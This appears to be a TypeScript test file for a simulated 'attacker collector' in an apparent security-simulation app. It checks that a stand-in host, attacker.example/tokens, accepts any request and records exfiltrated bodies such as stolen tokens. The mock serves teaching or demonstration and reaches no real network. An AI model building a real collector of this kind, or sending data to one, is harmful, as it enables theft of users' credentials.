import { handle } from '../../../../tests/support/handle';
import { describe, expect, it } from 'vitest';
import { createClock, createCloud } from '$lib/cloud';
import { collectedBodyLimit, createCollectorService } from './collector-service';

const t0 = Date.UTC(2026, 10, 3, 9, 5, 7);
const url = 'https://attacker.example/tokens';

describe('the attacker collector', () => {
	it('answers a POST with 204 No Content and keeps the body it was sent', async () => {
		const collector = createCollectorService(createClock({ fixed: t0 }));
		const response = await handle(
			collector,
			new Request(url, { method: 'POST', body: '{"stolen":"yes"}' })
		);
		expect(response.status).toBe(204);
		expect(response.statusText).toBe('No Content');
		expect(response.headers.get('access-control-allow-origin')).toBe('*');
		expect(await response.text()).toBe('');
		expect(collector.received).toEqual([
			{ at: t0, method: 'POST', path: '/tokens', body: '{"stolen":"yes"}' }
		]);
	});

	it('answers every request, however malformed, with 204: any method, path or body', async () => {
		const collector = createCollectorService(createClock({ fixed: t0 }));
		const requests = [
			new Request('https://attacker.example/', { method: 'GET' }),
			new Request('https://attacker.example/a/b?c=d', { method: 'PUT', body: '\u0000' }),
			new Request(url, { method: 'POST', body: new Uint8Array([0xff, 0xfe, 0x80]) }),
			new Request(url, { method: 'DELETE' }),
			new Request(url, { method: 'OPTIONS' })
		];
		for (const request of requests) expect((await handle(collector, request)).status).toBe(204);
		expect(collector.received.map((r) => `${r.method} ${r.path}`)).toEqual([
			'GET /',
			'PUT /a/b?c=d',
			'POST /tokens',
			'DELETE /tokens',
			'OPTIONS /tokens'
		]);
	});

	it(`keeps at most ${collectedBodyLimit} characters of a huge body, and still answers`, async () => {
		const collector = createCollectorService(createClock({ fixed: t0 }));
		const response = await handle(
			collector,
			new Request(url, { method: 'POST', body: 'x'.repeat(2 * 1024 * 1024) })
		);
		expect(response.status).toBe(204);
		expect(collector.received[0]?.body).toHaveLength(collectedBodyLimit);
	});

	it('answers only its own host', () => {
		const collector = createCollectorService(createClock({ fixed: t0 }));
		expect(collector.matches(new URL(url))).toBe(true);
		expect(collector.matches(new URL('https://cognito-idp.us-east-1.amazonaws.com/'))).toBe(false);
		expect(collector.matches(new URL('https://www.attacker.example/'))).toBe(false);
	});

	it('is part of every cloud: a request from the app is logged as an arrow to the attacker', async () => {
		const cloud = createCloud(undefined, { clock: { fixed: t0 } });
		const response = await cloud.fetch(url, { method: 'POST', body: 'loot' });
		expect(response.status).toBe(204);
		expect(cloud.collector.received.map((r) => r.body)).toEqual(['loot']);
		expect(cloud.log.entries).toMatchObject([
			{
				from: 'app',
				to: 'attacker',
				label: 'POST /tokens',
				response: { status: 204, statusText: 'No Content', body: '' },
				at: t0
			}
		]);
	});
});
